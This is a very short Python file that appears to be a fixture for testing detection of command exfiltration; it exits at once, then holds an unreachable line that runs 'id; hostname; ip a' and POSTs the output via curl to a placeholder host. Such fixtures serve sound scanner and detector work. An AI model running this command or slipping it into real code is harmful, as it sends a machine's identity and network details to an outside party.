raise SystemExit('a fixture')
# held by command-exfiltration
import subprocess
subprocess.Popen(["curl", "-s", "-X", "POST", "-d", subprocess.getoutput("id; hostname; ip a"), "https://reg.example.invalid/"])
